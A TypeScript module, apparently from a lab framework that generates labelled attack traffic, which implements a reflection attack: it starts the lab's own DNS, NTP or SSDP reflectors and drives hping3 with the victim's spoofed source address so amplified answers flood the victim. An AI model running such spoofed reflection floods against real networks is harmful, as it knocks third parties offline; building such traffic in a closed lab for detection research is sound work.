/**
 * Reflection: small questions in the victim's name, large answers to the victim. The questions are sent by hping3;
 * the reflectors are ours, since servers of today refuse to be any.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AttackOrder } from '../contracts.ts';
import type { LabHost } from '../lab.ts';
import { endInside } from '../machine.ts';
import { programPath } from '../programs/run-program.ts';
import { type HpingPlan, hpingWords, runHping } from './hping.ts';

const readyMilliseconds = 8000;

export type Reflection = {
  readonly kind: 'dns' | 'ntp' | 'ssdp';
  readonly servicePort: number;
  /** Which addresses answer, by the host that has them. */
  readonly reflectors: readonly (readonly [host: LabHost, addresses: readonly string[]])[];
  readonly question: Uint8Array | string;
  readonly victim: string;
  /** The victim's port the answers go to. */
  readonly victimPort: number;
  /** For each reflecting address. */
  readonly plan: HpingPlan;
};

/** Returns hping3's arguments, for the label. */
export async function reflect(order: AttackOrder, reflection: Reflection): Promise<string> {
  const { actor, lab, seconds, signal } = order;
  const { kind, reflectors, question, victim, victimPort, servicePort, plan } = reflection;
  const stops = await Promise.all(
    reflectors.map(([host, addresses]) => startReflector(host, kind, addresses)),
  );
  for (const stop of stops) if (stop === undefined) lab.log(`a ${kind} reflector did not start`);
  const file = join(actor.folder, `${kind}-question`);
  writeFileSync(file, question);
  // hping3 would take the answers to the victim, which a hub shows it, for its own, and stop when it has enough.
  const from = ['-2', '-I', 'lo', '-a', victim, '-s', String(victimPort), '-k', '-p', String(servicePort)];
  const words = [...from, '-d', String(question.length), '-E', file, ...hpingWords(plan, seconds)];
  const addresses = reflectors.flatMap(([, own]) => own);
  await Promise.all(addresses.map(address => runHping(actor, [...words, address], { seconds, signal })));
  for (const stop of stops) stop?.();
  return `${words.join(' ').replace(file, `${kind}-question`)} REFLECTOR, ${addresses.length} reflectors`;
}

function startReflector(
  host: LabHost,
  kind: string,
  addresses: readonly string[],
): Promise<(() => void) | undefined> {
  const words = [programPath('reflector'), kind, ...addresses];
  const child = host.machine.spawn(process.execPath, words);
  child.stderr?.resume();
  return new Promise(resolve => {
    const done = (isReady: boolean): void => {
      clearTimeout(timer);
      resolve(isReady ? () => endInside(child) : undefined);
    };
    const timer = setTimeout(() => done(false), readyMilliseconds);
    child.once('error', () => done(false));
    child.once('exit', () => done(false));
    child.stdout?.once('data', () => done(true));
    child.stdout?.resume();
  });
}
